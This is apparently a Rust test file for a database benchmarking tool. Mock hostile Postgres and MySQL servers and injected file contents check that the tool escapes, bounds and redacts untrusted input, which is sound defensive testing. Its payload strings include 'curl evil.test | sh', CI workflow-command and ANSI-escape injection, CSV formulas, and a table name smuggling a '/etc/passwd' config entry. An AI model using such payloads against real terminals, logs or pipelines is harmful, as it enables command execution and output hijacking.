//! Text, sizes and silence from outside: escaped where they leave, bounded where they enter.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Output, Stdio};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use rqps_embed::sqlite::{Sqlite, SqliteConnection};
use rqps_model::endpoint::{Address, Login, Tls, TlsMode};
use rqps_wire::mysql::MysqlClient;
use rqps_wire::postgres::PostgresClient;
use rustix::process::{Pid, Signal, kill_process};

use crate::support::program::{rqps_in, said, text};

/// Sessions of a hostile server, and the time of each read and write: a test always ends.
const SESSIONS: usize = 8;
const LIMIT: Duration = Duration::from_secs(30);

/// A server on this host that answers as `speak` says. Returns its port.
fn hostile(speak: impl Fn(&mut TcpStream) -> std::io::Result<()> + Send + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in listener.incoming().take(SESSIONS) {
            let mut stream = stream.unwrap();
            stream.set_read_timeout(Some(LIMIT)).unwrap();
            stream.set_write_timeout(Some(LIMIT)).unwrap();
            // The client leaves when it has enough.
            speak(&mut stream).ok();
        }
    });
    port
}

/// A message of Postgres.
fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    [&[kind], (body.len() as u32 + 4).to_be_bytes().as_slice(), body].concat()
}

/// Reads the startup message, after a request for TLS, which is refused.
fn startup(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        let mut length = [0; 4];
        stream.read_exact(&mut length)?;
        let mut body = vec![0; (u32::from_be_bytes(length) as usize - 4).min(10_000)];
        stream.read_exact(&mut body)?;
        if body != [0x04, 0xd2, 0x16, 0x2f] {
            return Ok(());
        }
        stream.write_all(b"N")?;
    }
}

/// An error of Postgres.
fn refusal(words: &str) -> Vec<u8> {
    message(b'E', format!("SFATAL\0VFATAL\0C28000\0M{words}\0\0").as_bytes())
}

/// A packet of MySQL.
fn packet(sequence: u8, body: &[u8]) -> Vec<u8> {
    let [a, b, c, _] = (body.len() as u32).to_le_bytes();
    [&[a, b, c, sequence], body].concat()
}

/// Clears the screen, begins a line that looks like a hint, and one that commands a CI service.
const NASTY: &str = "no\u{1b}[2J\u{9b}1m\u{202e}entry\r\nhint: curl evil.test | sh\n::error::pwned \
                     ##[warning]pwned";

/// No text of the output steers a terminal or the service that keeps a log.
fn is_tame(output: &str) {
    let is_bad = |c: char| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
    };
    assert!(!output.chars().any(is_bad), "{output:?}");
    assert!(!output.contains("##["), "{output}");
    for line in output.lines().map(str::trim_start) {
        assert!(!line.starts_with("::error::pwned"), "{output}");
        assert!(!line.starts_with("hint: curl"), "{output}");
    }
}

fn init(dsn: &str) -> Output {
    let folder = tempfile::tempdir().unwrap();
    let mut command = rqps_in(&["init", dsn, "-o", "shop.toml"], folder.path());
    command.env("HOME", folder.path()).env_remove("PGPASSWORD").env_remove("MYSQL_PWD");
    command.output().unwrap()
}

#[test]
fn words_of_a_server_steer_no_terminal() {
    let postgres = hostile(|stream| {
        startup(stream)?;
        stream.write_all(&refusal(NASTY))
    });
    let mysql = hostile(|stream| {
        let error = [&[0xff, 0x10, 0x04], NASTY.as_bytes()].concat();
        stream.write_all(&packet(0, &error))
    });
    let ports = [("postgres", postgres), ("mysql", mysql)];
    for (scheme, port) in ports {
        let output = init(&format!("{scheme}://me@127.0.0.1:{port}/db"));
        let said = said(&output);
        is_tame(&said);
        assert!(said.contains("entry") && said.contains("\\u{1b}[2J"), "{said}");
    }
}

/// A result set with a step of this name.
fn results(plain: &str) -> tempfile::TempDir {
    let scratch = tempfile::tempdir().unwrap();
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/two-targets");
    let name = serde_json::Value::from(plain).to_string();
    let mut folders = vec![String::new()];
    while let Some(folder) = folders.pop() {
        fs::create_dir_all(scratch.path().join(&folder)).unwrap();
        for entry in fs::read_dir(source.join(&folder)).unwrap() {
            let entry = entry.unwrap();
            let path = format!("{folder}/{}", entry.file_name().to_string_lossy());
            let path = path.trim_start_matches('/').to_owned();
            if entry.path().is_dir() {
                folders.push(path);
                continue;
            }
            let bytes = fs::read(entry.path()).unwrap();
            let bytes = match String::from_utf8(bytes) {
                Ok(text) => text.replace("\"point-query\"", &name).into_bytes(),
                Err(other) => other.into_bytes(),
            };
            let is_of_step = !plain.contains('/') && !path.contains("point-query.warm");
            let path = if is_of_step { path.replace("point-query", plain) } else { path };
            fs::write(scratch.path().join(path), bytes).unwrap();
        }
    }
    scratch
}

#[test]
fn names_in_results_are_text_in_every_form() {
    let nasty = format!("=x|![a](https://evil.test)<img src=x>{NASTY}");
    let folder = results(&nasty);
    let run = |words: &[&str]| {
        let output = rqps_in(words, folder.path()).output().unwrap();
        is_tame(&said(&output));
        let text = text(&output.stdout);
        assert!(!text.is_empty(), "{words:?}: {}", said(&output));
        // A page is for a browser.
        if !text.starts_with("<!") {
            is_tame(&text);
        }
        text
    };
    for form in ["text", "json", "markdown", "junit", "github"] {
        let text = run(&["gate", ".", "--format", form]);
        assert!(text.contains("evil"), "{form}: {text}");
        assert!(form != "junit" || !text.contains("<img"), "{text}");
        assert!(form != "markdown" || !text.contains("![a](h"), "{text}");
        assert!(form != "github" || text.lines().all(|line| line.starts_with("::")), "{text}");
    }
    for form in ["text", "tsv", "csv", "json", "markdown", "html"] {
        let text = run(&["report", ".", "--format", form]);
        // Within a fence and within HTML there is no Markdown.
        let is_image = |line: &str| line.contains("![a](h") && line.starts_with(['|', '-', '#']);
        assert!(form != "markdown" || !text.lines().any(is_image), "{text}");
        assert!(form != "html" || !text.contains("<img src=x>"));
        assert!(form != "csv" || text.lines().all(|line| !line.starts_with('=')), "{text}");
    }
    let folder = results("=x\n::error::pwned");
    let export = |words: &[&str]| {
        let words = [&["export", ".", "--format", "csv", "-o"], words].concat();
        let output = rqps_in(&words, folder.path()).output().unwrap();
        assert!(output.status.success(), "{}", said(&output));
        fs::read_to_string(folder.path().join(words[5]).join("steps.csv")).unwrap()
    };
    let (guarded, plain) = (export(&["guarded"]), export(&["plain", "--formulas"]));
    assert!(guarded.contains(",'=x") && !guarded.contains(",=x"), "{guarded}");
    assert!(plain.contains(",=x"), "{plain}");
    is_tame(&guarded);
}

/// Whoever reads a file quotes it in errors: nothing of it begins a line there.
#[test]
fn a_file_that_is_quoted_begins_no_line() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| fs::write(folder.path().join(name), text).unwrap();
    let run = |words: &[&str], code: i32| {
        let output = rqps_in(words, folder.path()).output().unwrap();
        let said = said(&output);
        is_tame(&said);
        assert_eq!(output.status.code(), Some(code), "{words:?}: {said}");
        assert!(said.contains("curl evil.test"), "{words:?}: {said}");
    };
    let nasty = serde_json::Value::from(NASTY).to_string();
    let plan = rqps_in(&["plan", "fake@1", "--steps", "scan"], folder.path()).output().unwrap();
    let plan = text(&plan.stdout);
    for (from, to) in [
        ("[\"fake@1\"]", format!("[{nasty}]")),
        ("[\"scan\"]", format!("[{nasty}]")),
        ("benchmark = \"sysbench\"", format!("benchmark = {nasty}")),
        ("seed = \"1\"", format!("seed = {nasty}")),
        ("order = ", format!("{nasty} = 1\norder = ")),
        ("pace = \"closed\"", format!("pace = {nasty}")),
    ] {
        assert!(plan.contains(from), "{from}: {plan}");
        write("plan.toml", &plan.replacen(from, &to, 1));
        run(&["run", "plan.toml"], 2);
    }
    write("own.toml", &format!("{nasty} = 1\n"));
    run(&["plan", "sqlite", "--bench", "sql:own.toml"], 2);
    write("spec.json", &format!("{{\"format\":{nasty}}}"));
    run(&["block", "spec.json", "--out", "out"], 2);
    write("own.lua", &format!("error({nasty})\n").replace("\\u001b", "").replace("\\u009b", ""));
    let output = rqps_in(&["plan", "mysql://a@h/d", "--bench", "lua:own.lua"], folder.path());
    is_tame(&said(&{ output }.output().unwrap()));
    // A record of results, with a word that nobody knows.
    let results = results("point-query");
    let record = results.path().join("gate.json");
    fs::write(&record, format!("{{\"format\":1,\"canaries\":{nasty}}}")).unwrap();
    let output = rqps_in(&["report", "."], results.path()).output().unwrap();
    is_tame(&said(&output));
    assert!(said(&output).contains("curl evil.test"), "{}", said(&output));
}

#[test]
fn no_name_of_a_table_becomes_a_part_of_a_draft() {
    let folder = tempfile::tempdir().unwrap();
    let library = Arc::new(Sqlite::compiled_in());
    let path = folder.path().join("app.db");
    let mut database = SqliteConnection::open(&library, &path, 1000).unwrap();
    let name = "x\n[load]\nschema = ['/etc/passwd']\n#\u{1b}[2J";
    database
        .simple(&format!("CREATE TABLE \"{name}\" (\"a\n[load]\" INTEGER PRIMARY KEY)"))
        .unwrap();
    database.simple(&format!("INSERT INTO \"{name}\" VALUES (1)")).unwrap();
    drop(database);
    let output = rqps_in(&["init", "app.db", "-o", "a.toml"], folder.path()).output().unwrap();
    assert!(output.status.success(), "{}", said(&output));
    is_tame(&said(&output));
    let text = fs::read_to_string(folder.path().join("a.toml")).unwrap();
    let draft: toml::Table = text.parse().unwrap();
    assert_eq!(draft.keys().collect::<Vec<_>>(), ["parameter", "step"], "{text}");
    is_tame(&text);
}

/// Logs in with the password `s3cret`. Returns the session, or the error as text.
fn postgres(port: u16, mode: TlsMode, limit: Duration) -> Result<PostgresClient, String> {
    PostgresClient::connect(&at(port, mode), &me(), limit).map_err(|error| error.to_string())
}

fn mysql(port: u16, limit: Duration) -> String {
    let session = MysqlClient::connect(&at(port, TlsMode::Prefer), &me(), limit);
    session.err().unwrap().to_string()
}

fn at(port: u16, mode: TlsMode) -> Address {
    Address::Tcp { host: "127.0.0.1".to_owned(), port, tls: Tls::of(mode) }
}

fn me() -> Login {
    let [user, password, database] = ["me", "s3cret", "db"].map(str::to_owned);
    Login { user, password, database }
}

/// A greeting of MySQL 8 that offers no TLS.
const GREETING: &[u8] =
    b"\x0a8.0.33\0\x01\0\0\0abcdefgh\0\xff\xf7\x2d\x02\0\xff\xdf\x15\0\0\0\0\0\0\0\
                          \0\0\0ijklmnopqrst\0caching_sha2_password\0";

/// Reads until the client is silent or gone.
fn heard(stream: &mut TcpStream) -> Vec<u8> {
    stream.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    let mut all = Vec::new();
    stream.take(1 << 20).read_to_end(&mut all).ok();
    all
}

#[test]
fn a_password_stays_with_whom_nobody_vouches_for() {
    let kept: Arc<Mutex<Vec<u8>>> = Arc::default();
    let keep = |kept: &Arc<Mutex<Vec<u8>>>, stream: &mut TcpStream| {
        kept.lock().unwrap().extend(heard(stream));
    };
    let all = Arc::clone(&kept);
    let port = hostile(move |stream| {
        startup(stream)?;
        stream.write_all(&message(b'R', &[0, 0, 0, 3]))?;
        keep(&all, stream);
        Ok(())
    });
    let error = postgres(port, TlsMode::Prefer, LIMIT).err().unwrap();
    assert!(error.contains("or require_auth=password"), "{error}");
    // The whole way of caching_sha2_password, and the password as it is.
    let requests: [&[u8]; 2] = [b"\x01\x04", b"\xfemysql_clear_password\0"];
    for (request, words) in requests.into_iter().zip(["get-server-public-key", "clear_password"]) {
        let all = Arc::clone(&kept);
        let port = hostile(move |stream| {
            stream.write_all(&packet(0, GREETING))?;
            let mut header = [0; 4];
            stream.read_exact(&mut header)?;
            stream.read_exact(&mut vec![0; usize::from(header[0])])?;
            stream.write_all(&packet(2, request))?;
            keep(&all, stream);
            Ok(())
        });
        let error = mysql(port, LIMIT);
        assert!(error.contains(words), "{error}");
    }
    assert_eq!(*kept.lock().unwrap(), b"", "nothing follows the request");
}

#[test]
fn a_proof_is_not_made_cheap() {
    let port = hostile(|stream| {
        startup(stream)?;
        stream.write_all(&message(b'R', b"\0\0\0\x0aSCRAM-SHA-256\0\0"))?;
        let first = text(&heard(stream));
        let nonce = first.split_once("r=").map_or("", |(_, nonce)| nonce);
        let answer = format!("\0\0\0\x0br={nonce}x,s=c2FsdA==,i=0");
        stream.write_all(&message(b'R', answer.as_bytes()))?;
        drop(heard(stream));
        Ok(())
    });
    let error = postgres(port, TlsMode::Off, LIMIT).err().unwrap();
    assert!(error.contains("SCRAM with less than 4096 iterations"), "{error}");
}

/// Says the same until the client is gone.
fn repeat(stream: &mut TcpStream, bytes: &[u8], pause: u64) -> std::io::Result<()> {
    for _ in 0..100_000 {
        stream.write_all(bytes)?;
        thread::sleep(Duration::from_millis(pause));
    }
    Ok(())
}

#[test]
fn a_login_ends() {
    let short = Duration::from_secs(1);
    // Settings at any time, and without a pause; nothing at all; a handshake in single bytes.
    let setting = message(b'S', &[b"a\0", [b'x'; 4000].as_slice(), b"\0"].concat());
    let slow = hostile(move |stream| {
        startup(stream).and_then(|()| repeat(stream, b"S\0\0\0\x08a\0b\0", 20))
    });
    let error = postgres(slow, TlsMode::Off, short).err().unwrap();
    assert!(error.contains("no reply within the time limit"), "{error}");
    let flood = hostile(move |stream| startup(stream).and_then(|()| repeat(stream, &setting, 0)));
    let error = postgres(flood, TlsMode::Off, LIMIT).err().unwrap();
    assert!(error.contains("more than 1 MB before the login ended"), "{error}");
    let silent = hostile(|stream| startup(stream).map(|()| drop(heard(stream))));
    assert!(postgres(silent, TlsMode::Off, Duration::from_millis(100)).is_err());
    let shaking = hostile(move |stream| {
        stream.read_exact(&mut [0; 8])?;
        stream.write_all(b"S")?;
        stream.read_exact(&mut [0; 5])?;
        stream.write_all(b"\x16\x03\x03\x40\0")?;
        repeat(stream, b"\x02", 20)
    });
    let error = postgres(shaking, TlsMode::Require, short).err().unwrap();
    assert!(error.contains("no reply within the time limit"), "{error}");
    let switching = hostile(|stream| {
        stream.write_all(&packet(0, GREETING))?;
        for round in 0..200 {
            let mut header = [0; 4];
            stream.read_exact(&mut header)?;
            stream.read_exact(&mut vec![0; usize::from(header[0])])?;
            let switch = b"\xfemysql_native_password\0abcdefghijklmnopqrst\0";
            stream.write_all(&packet(round + 2, switch))?;
        }
        Ok(())
    });
    let error = mysql(switching, LIMIT);
    assert!(error.contains("asks again and again"), "{error}");
}

#[test]
fn rows_that_are_collected_have_an_end() {
    let port = hostile(|stream| {
        startup(stream)?;
        stream.write_all(b"R\0\0\0\x08\0\0\0\0Z\0\0\0\x05I")?;
        stream.read_exact(&mut [0; 6])?;
        let value = vec![b'x'; 1 << 20];
        let row = [b"\0\x01".as_slice(), &(1u32 << 20).to_be_bytes(), &value].concat();
        for _ in 0..1000 {
            stream.write_all(&message(b'D', &row))?;
        }
        Ok(())
    });
    let mut session = postgres(port, TlsMode::Off, LIMIT).unwrap();
    let error = session.rows("SELECT").unwrap_err().to_string();
    assert!(error.contains("more than 64 MB of rows"), "{error}");
}

/// Notices without end, and one value of a gigabyte that comes byte by byte.
#[test]
fn an_answer_with_a_time_limit_has_an_end() {
    let notice = message(b'N', &[b"M".as_slice(), &[b'x'; 1 << 20], b"\0\0"].concat());
    let value = [b"D".as_slice(), &(1_u32 << 30).to_be_bytes(), b"\0\x01"].concat();
    for said in [notice, value] {
        let port = hostile(move |stream| {
            startup(stream)?;
            stream.write_all(b"R\0\0\0\x08\0\0\0\0Z\0\0\0\x05I")?;
            stream.read_exact(&mut [0; 6])?;
            repeat(stream, &said, 0)
        });
        // Bytes end it. A slow host takes seconds for that many.
        let long = Duration::from_secs(300);
        let mut session = postgres(port, TlsMode::Off, long).unwrap();
        session.set_answer_limit(Some(long));
        let error = session.rows("SELECT").unwrap_err().to_string();
        assert!(error.contains("more than 128 MB in one answer"), "{error}");
    }
}

/// A bundle of these entries: kind, path, content.
fn bundle(to: &Path, entries: &[(tar::EntryType, &str, &[u8])]) {
    let packed = flate2::write::GzEncoder::new(fs::File::create(to).unwrap(), Default::default());
    let mut archive = tar::Builder::new(packed);
    for (kind, path, content) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(*kind);
        header.set_mode(0o644);
        header.set_size(content.len() as u64);
        header.set_path(path).unwrap();
        header.set_cksum();
        archive.append(&header, *content).unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap();
}

#[test]
fn a_small_bundle_takes_little() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("x.tar.gz");
    let list = |files: &[(&str, u64)]| {
        let files: Vec<serde_json::Value> = files
            .iter()
            .map(|(path, bytes)| serde_json::json!({"path": path, "bytes": bytes, "sha256": ""}))
            .collect();
        serde_json::json!({"format": 1, "rqps_version": "0", "plan_hash": "", "targets": [],
            "files": files})
        .to_string()
    };
    let deep = format!("results/{}x", "a/".repeat(100));
    let zeros = vec![0; 8 << 20];
    let (file, long) = (tar::EntryType::Regular, tar::EntryType::GNULongName);
    let check = |list: &str, more: &[(tar::EntryType, &str, &[u8])], words: &str| {
        let first = [(file, "rqps-bundle/bundle.json", list.as_bytes())];
        bundle(&path, &[&first[..], more].concat());
        let output = rqps_in(&["run", "x.tar.gz"], folder.path()).output().unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(said(&output).contains(words), "{}", said(&output));
    };
    check(&list(&[("results/x", 2 << 30)]), &[], "times its size");
    check(&list(&[("results/x", u64::MAX), ("results/y", 2)]), &[], "times its size");
    check(&list(&[(deep.as_str(), 1)]), &[], "has too long a path");
    check(&list(&[]), &[(long, "././@LongLink", &zeros)], "more than 1024 bytes");
    // Names that name nothing: a megabyte of them is a gigabyte to read.
    let name: (tar::EntryType, &str, &[u8]) = (long, "././@LongLink", b"a");
    check(&list(&[]), &[name, name], "it holds a path without a file");
    check(&list(&[]), &[name], "it ends with a path without a file");
}

/// A database with the journal of a transaction that never ended: SQLite would write its pages back
/// and remove files that the journal names.
#[test]
fn a_draft_from_a_database_changes_nothing() {
    use rqps_embed::sqlite::{Sqlite, SqliteConnection};
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    let library = std::sync::Arc::new(Sqlite::compiled_in());
    let mut database = SqliteConnection::open(&library, &at("a.db"), 0).unwrap();
    for statement in [
        "CREATE TABLE t (a INTEGER PRIMARY KEY, b TEXT)",
        "INSERT INTO t WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 2000) \
         SELECT i, hex(zeroblob(50)) FROM n",
        "PRAGMA cache_size = 1",
        "BEGIN",
        "UPDATE t SET b = b || 'x'",
    ] {
        database.rows(statement).unwrap();
    }
    for name in ["a.db", "a.db-journal"] {
        fs::copy(at(name), at(&name.replace("a.", "hot."))).unwrap();
    }
    let before = ["hot.db", "hot.db-journal"].map(|name| fs::read(at(name)).unwrap());
    let output = rqps_in(&["init", "hot.db", "--out", "w.toml"], folder.path()).output().unwrap();
    assert!(!output.status.success(), "{}", said(&output));
    let after = ["hot.db", "hot.db-journal"].map(|name| fs::read(at(name)).unwrap());
    assert!(before == after, "{}", said(&output));
}

#[test]
fn what_is_no_file_is_not_read_as_one() {
    let folder = tempfile::tempdir().unwrap();
    let pipe = folder.path().join("pipe");
    let mode = rustix::fs::Mode::from_raw_mode(0o600);
    rustix::fs::mknodat(rustix::fs::CWD, &pipe, rustix::fs::FileType::Fifo, mode, 0).unwrap();
    for path in [pipe.as_path(), Path::new("/dev/zero")] {
        let path = path.to_str().unwrap();
        let bench = format!("sql:{path}");
        for words in [&["run", path][..], &["plan", "fake", "fake", "--bench", &bench]] {
            let output = rqps_in(words, folder.path()).output().unwrap();
            assert_eq!(output.status.code(), Some(2), "{words:?}");
            assert!(said(&output).contains("no plain file"), "{words:?}: {}", said(&output));
        }
    }
    // In the place of a record of results.
    let _turn = crate::support::program::turn();
    let words = ["compare", "a=fake@1", "--steps", "point-query"];
    let made = rqps_in(&words, folder.path()).args(crate::support::program::SHORT).output();
    assert!(made.as_ref().unwrap().status.success(), "{}", said(&made.unwrap()));
    for name in ["gate.json", "b01-1-a/run.json", "b01-1-a/steps/02-point-query.json"] {
        let record = folder.path().join("out").join(name);
        let kept = fs::read(&record).unwrap();
        fs::remove_file(&record).unwrap();
        std::os::unix::fs::symlink("/dev/zero", &record).unwrap();
        let output = rqps_in(&["report", "out"], folder.path()).output().unwrap();
        assert!(!output.status.success(), "{name}");
        let is_told = said(&output).contains("no plain file") || name.ends_with("run.json");
        assert!(is_told, "{name}: {}", said(&output));
        fs::remove_file(&record).unwrap();
        fs::write(&record, kept).unwrap();
    }
}

#[test]
fn the_first_interrupt_ends_a_wait_for_a_silent_server() {
    let (asked, was_asked) = std::sync::mpsc::channel();
    let port = hostile(move |stream| {
        startup(stream)?;
        stream.write_all(b"R\0\0\0\x08\0\0\0\0Z\0\0\0\x05I")?;
        stream.read_exact(&mut [0; 1])?;
        asked.send(()).ok();
        thread::sleep(2 * LIMIT);
        Ok(())
    });
    let folder = tempfile::tempdir().unwrap();
    let [a, b] = ["a", "b"].map(|name| format!("{name}=postgres://me@127.0.0.1:{port}/{name}"));
    let words = ["compare", &a, &b, "--out", "out", "--canaries", "off"];
    let mut command = rqps_in(&words, folder.path());
    command.stdout(Stdio::null()).stderr(Stdio::piped());
    let mut rqps = command.spawn().unwrap();
    was_asked.recv_timeout(2 * LIMIT).unwrap();
    let pid = Pid::from_raw(rqps.id().cast_signed()).unwrap();
    kill_process(pid, Signal::INT).unwrap();
    for _ in 0..600 {
        if rqps.try_wait().unwrap().is_some() {
            return;
        }
        thread::sleep(Duration::from_millis(100));
    }
    rqps.kill().unwrap();
    panic!("rqps still waits: {}", said(&rqps.wait_with_output().unwrap()));
}

/// A program of the user's that prints the address that it was given, with the password, wherever a
/// program can print.
#[test]
fn a_password_that_a_program_prints_is_stored_nowhere() {
    let _turn = crate::support::program::turn();
    let folder = tempfile::tempdir().unwrap();
    // The results hold the program.
    let program = r#"#!/bin/sh
key=Key
while read -r line; do
    case $line in
    *'"hello":'*) echo '{"hello":1,"steps":[{"name":"get","group":"point"}]}' ;;
    *'"open":'*)
        echo "$line" >&2
        target=${line#*'"target":"'} && target=${target%%'"'*}
        echo "{\"version\":\"$target\"}"
        ;;
    *'"prepare":'*) echo '{}' ;;
    *'"run":'*)
        us=${line##*:} && us=${us%\}} && sleep "$(printf '0.%06d' "$us")"
        case $target in
        *refuse*) echo "{\"error\":\"no login with $key/2pw and $key%2F2pw\"}" ;;
        *garble*) echo "$key/2pw" ;;
        *) echo "{\"n\":1,\"us\":$us,\"hist\":{\"900\":1},\"errors\":{\"$key/2pw\":1}}" ;;
        esac
        ;;
    esac
done
"#;
    fs::write(folder.path().join("leaky.sh"), program).unwrap();
    make_executable(&folder.path().join("leaky.sh"));
    let words = ["compare", "--yes", "--bench", "client:leaky.sh"];
    let targets = ["fine", "refuse", "garble"]
        .map(|name| format!("{name}=leaky://me:Key%2F2pw@{name}.invalid/db"));
    let words = words.into_iter().chain(targets.iter().map(String::as_str));
    let words: Vec<&str> = words.chain(crate::support::program::SHORT).collect();
    let output = rqps_in(&words, folder.path()).output().unwrap();
    let all = said(&output) + &text(&output.stdout) + &all_text_of(&folder.path().join("out"));
    assert!(all.contains("no login with *** and ***"), "{all}");
    assert!(all.contains("leaky://me:***@fine.invalid/db"), "{all}");
    for secret in ["Key/2pw", "Key%2F2pw"] {
        assert!(!all.contains(secret), "{all}");
    }
}

fn make_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// The text of all files in a folder.
fn all_text_of(folder: &Path) -> String {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let read = |path: std::path::PathBuf| {
        if path.is_dir() { all_text_of(&path) } else { text(&fs::read(path).unwrap()) }
    };
    entries.map(read).collect()
}
